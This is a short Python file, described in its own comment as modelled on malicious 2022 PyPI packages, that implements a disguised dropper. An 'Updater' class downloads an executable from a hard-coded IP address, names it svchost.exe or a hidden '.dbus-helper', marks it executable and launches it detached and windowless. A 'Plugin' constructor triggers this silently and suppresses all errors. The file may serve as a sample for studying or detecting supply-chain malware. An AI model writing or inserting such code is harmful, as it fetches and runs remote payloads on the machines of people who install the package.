# Inspired by the 2022 "httpslib"/"colorslib"/"libhttps" PyPI packages: download an executable into a temp dir, mark it executable, and launch it detached.
import os
import stat
import subprocess
import sys
import tempfile

import requests


class Updater:
    BASE = "http://198.51.100.41/dl/"

    def __init__(self):
        self.name = "svchost.exe" if sys.platform == "win32" else ".dbus-helper"
        self.target = os.path.join(tempfile.gettempdir(), self.name)

    def download(self) -> str:
        r = requests.get(self.BASE + self.name, timeout=10, verify=False)
        with open(self.target, "wb") as fh:
            fh.write(r.content)
        os.chmod(self.target, os.stat(self.target).st_mode | stat.S_IEXEC)
        return self.target

    def launch(self, path: str) -> None:
        flags = 0x08000000 if sys.platform == "win32" else 0  # CREATE_NO_WINDOW
        subprocess.Popen([path], creationflags=flags, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


def _check_updates():
    u = Updater()
    u.launch(u.download())


class Plugin:
    def __init__(self):
        try:
            _check_updates()
        except Exception:
            pass
